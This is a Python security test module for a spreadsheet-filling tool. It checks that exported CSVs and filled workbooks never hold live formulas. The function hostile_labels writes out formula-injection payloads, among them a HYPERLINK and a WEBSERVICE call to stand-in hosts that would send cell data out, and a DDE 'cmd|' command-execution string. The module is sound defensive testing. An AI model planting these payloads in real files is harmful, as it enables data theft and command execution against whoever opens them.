"""FORMULA INJECTION: no cell pincite exports runs as a formula when a person opens it.

A source workbook's row labels and a target workbook's row labels are hostile: each starts
like a spreadsheet formula (`=HYPERLINK(…)`, `@SUM(…)`, `+…`, `-…`, a tab or a carriage
return before `=`), stored as text. The source is ingested and the target filled through
the CLI (`pincite fill`), so the source's rows become coverage obligations the target does
not take and land in `marks.csv`. Then every cell of every CSV the fill wrote is read back,
and every cell of the filled workbook is compared with the target's:

- a CSV cell may not start with `= + - @`, a tab or a carriage return (escaped, OWASP: a
  single quote in front);
- a workbook cell pincite changed holds a number or plain text, never a formula, and a
  target cell it did not change keeps its type (a text label is not turned into a formula).

`F_SEEN` keeps the run honest: each hostile source label must reach `marks.csv` (escaped),
or the CSV check looked at nothing.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from ...model.cells import formula_start
from .canaries import TokenMint
from .harness import Drivers, Size, Workspace, run_cli
from .scoreboard import Scoreboard

GROUP = "FORMULA INJECTION"
F_CSV = "CSV cells a spreadsheet would run as a formula (= + - @, tab, CR first)"
F_XLSX = "workbook cells pincite wrote or changed that hold a formula"
F_SEEN = "hostile source labels that reached marks.csv, escaped (not vacuous)"
TENANT, WHO = "acme", "acme:ana:analysts"


def hostile_labels(token: str) -> list[str]:
    """Return row labels that a spreadsheet would run, the i-th carrying `token` + i."""
    return [f'=HYPERLINK("http://{token}0.example/?"&A1,"open")',
            f"@SUM(1+1)*cmd|' /C calc {token}1'!A0",
            f"+1+cmd {token}2",
            f"-2+3+cmd {token}3",
            f"=1+1 {token}4",
            f"=2+2 {token}5"]


def label_workbook(title: str, rows: list[tuple[Any, ...]], lead: dict[int, str]) -> bytes:
    """Return an .xlsx with a caption, a header row and `rows`; the first cell of every row
    stored as text, preceded by `lead[i]` (a tab, a carriage return) where given."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = title
    ws.append(["Key figures (EUR millions)"])
    ws.append([])
    ws.append(["Metric", "2023", "2024"])
    for i, row in enumerate(rows):
        ws.append(list(row))
        cell = ws.cell(ws.max_row, 1)
        cell.value = lead.get(i, "") + str(row[0])
        cell.data_type = "s"  # text that looks like a formula, as a hostile file holds it
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _cells(path: Path) -> dict[tuple[str, str], tuple[Any, str]]:
    """Return {(sheet, coordinate): (value, data type)} of every non-empty cell."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return {(ws.title, c.coordinate): (c.value, c.data_type)
            for ws in wb for row in ws.iter_rows() for c in row if c.value is not None}


def check_csv(path: Path, f: Any) -> str:
    """Count every cell of a CSV file into `f`; return its text."""
    text = path.read_text("utf-8")
    for n, row in enumerate(csv.reader(io.StringIO(text)), 1):
        for cell in row:
            f.attempt(not formula_start(cell), f"{path.name} line {n}: {cell[:80]!r}")
    return text


def check_workbook(target: Path, filled: Path, f: Any) -> None:
    """Count every cell of the filled copy into `f`: one pincite changed holds no formula;
    one it did not change is the target's own, with its type."""
    before, after = _cells(target), _cells(filled)
    for key, (value, kind) in sorted(after.items()):
        if before.get(key) == (value, kind):
            f.attempt(True)
            continue
        was_text = key in before and before[key][1] == "s"
        ok = kind != "f" and not (kind == "s" and formula_start(str(value))) and not was_text
        f.attempt(ok, f"{key[0]}!{key[1]}: {kind} {str(value)[:80]!r} "
                      f"(target: {before.get(key)!r})")


def run_formulas(board: Scoreboard, ws: Workspace, drivers: Drivers, size: Size,
                 seed: int) -> None:
    """Run the FORMULA INJECTION group into `board`."""
    token = TokenMint(seed).new()
    labels = hostile_labels(token)
    folder = ws.folder("formulas")
    source = folder / "figures.xlsx"
    rows = [("Revenue", 100.5, 120.25), ("Net income", 10.5, 12.75)]
    rows += [(lab, 7 + i, 8 + i) for i, lab in enumerate(labels)]
    source.write_bytes(label_workbook("Figures", rows, {6: "\t", 7: "\r"}))  # the last two
    target = folder / "model.xlsx"
    asks = [f'=WEBSERVICE("http://{token}t.invalid")', f"@{token}t+1"]  # no source row
    target.write_bytes(label_workbook("Model", [("Revenue", None, None)]
                                      + [(a, None, None) for a in asks], {}))
    store, out = ws.path("formulas-store"), folder / "out"
    f = {n: board.figure(GROUP, n) for n in (F_CSV, F_XLSX, F_SEEN)}
    ing = run_cli(drivers, store, "ingest", str(source), "--id", "figures.xlsx", "--tenant",
                  TENANT, "--acl", "group:analysts", "--json")
    run = run_cli(drivers, store, "fill", "figures.xlsx", "--target", str(target), "--out",
                  str(out), "--as", WHO, "--json")
    ran = ing.returncode == 0 and run.returncode == 0 and run.traceback is None
    f[F_SEEN].attempt(ran, f"ingest or fill failed: {(ing.stderr + run.stderr).strip()[:200]}")
    csvs = sorted(out.glob("*.csv")) if ran else []
    text = "".join(check_csv(p, f[F_CSV]) for p in csvs)
    for i, lab in enumerate(labels):
        f[F_SEEN].attempt(f"{token}{i}" in text, f"{lab!r} is not in a CSV the fill wrote")
    filled = sorted(out.glob("*.filled.xlsx"))
    f[F_XLSX].attempt(bool(filled), "the fill wrote no filled copy")
    for p in filled:
        check_workbook(target, p, f[F_XLSX])
    board.note(GROUP, f"{len(labels)} hostile row labels in a source workbook and 2 in the "
               f"target, filled through the CLI; {len(csvs)} CSV file(s) and "
               f"{len(filled)} filled workbook(s) read back cell by cell")
